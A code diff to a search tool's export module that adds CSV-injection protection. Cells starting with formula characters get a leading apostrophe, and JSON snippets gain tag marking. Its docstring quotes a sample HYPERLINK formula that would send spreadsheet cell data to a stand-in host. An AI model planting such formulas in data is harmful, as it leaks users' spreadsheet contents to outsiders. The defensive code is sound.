@@ -5,6 +5,11 @@ pipe, the HTTP API streams the same text. Every writer takes an iterator of hits
     json    one JSON document: an array of hit objects (valid even when empty)
     ndjson  one hit object per line
     csv     a header and one row per hit (lists joined with "; ", highlights unmarked)
+
+CSV is opened in spreadsheets, and a crawled title such as =HYPERLINK("http://x/?"&A1,"…") would
+run there as a formula. So every CSV cell that starts with =, +, -, @, a tab or a carriage
+return gets a leading ' (spreadsheets show the text as it was; strip one leading ' to get the
+original back). JSON and NDJSON are written exactly as stored.
 """
 
 from __future__ import annotations
@@ -14,12 +19,20 @@ import io
 import json
 from typing import Iterable, Iterator, TextIO
 
-from search.query import Hit, unmarked
+from search.query import Hit, mark_tags, unmarked
 
 FORMATS = ("csv", "json", "ndjson")
 MEDIA_TYPES = {"csv": "text/csv; charset=utf-8", "json": "application/json; charset=utf-8", "ndjson": "application/x-ndjson; charset=utf-8"}
 EXPORT_COLUMNS = ("url", "title", "site", "authors", "published", "score", "snippets", "tags", "section", "language", "edited")
 EARLIER_COLUMNS = ("captured_at", "earlier_version_of")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralised(value):
+    """A CSV cell a spreadsheet will never run as a formula (OWASP's CSV-injection advice)."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 def columns(with_body: bool = False, include_earlier: bool = False) -> tuple[str, ...]:
@@ -29,13 +42,13 @@ def columns(with_body: bool = False, include_earlier: bool = False) -> tuple[str
 def csv_chunks(hits: Iterable[Hit], with_body: bool = False, include_earlier: bool = False) -> Iterator[str]:
     buffer = io.StringIO()
     writer = csv.DictWriter(buffer, fieldnames=columns(with_body, include_earlier), extrasaction="ignore")
-    writer.writeheader()
+    writer.writeheader()  # column names are ours: nothing to neutralise
     for hit in hits:
         row = hit.as_dict()
         row["authors"] = "; ".join(row["authors"])
         row["tags"] = "; ".join(row["tags"] or [])
         row["snippets"] = " … ".join(unmarked(s) for s in row["snippets"])
-        writer.writerow(row)
+        writer.writerow({key: neutralised(value) for key, value in row.items()})
         yield buffer.getvalue()
         buffer.seek(0)
         buffer.truncate()
@@ -43,16 +56,22 @@ def csv_chunks(hits: Iterable[Hit], with_body: bool = False, include_earlier: bo
         yield buffer.getvalue()
 
 
+def _as_json(hit: Hit) -> str:
+    data = hit.as_dict()
+    data["snippets"] = [mark_tags(s) for s in data["snippets"]]
+    return json.dumps(data, ensure_ascii=False)
+
+
 def json_chunks(hits: Iterable[Hit], **_) -> Iterator[str]:
     yield "["
     for n, hit in enumerate(hits):
-        yield ("\n" if n == 0 else ",\n") + json.dumps(hit.as_dict(), ensure_ascii=False)
+        yield ("\n" if n == 0 else ",\n") + _as_json(hit)
     yield "\n]\n"
 
 
 def ndjson_chunks(hits: Iterable[Hit], **_) -> Iterator[str]:
     for hit in hits:
-        yield json.dumps(hit.as_dict(), ensure_ascii=False) + "\n"
+        yield _as_json(hit) + "\n"
 
 
 CHUNKS = {"csv": csv_chunks, "json": json_chunks, "ndjson": ndjson_chunks}
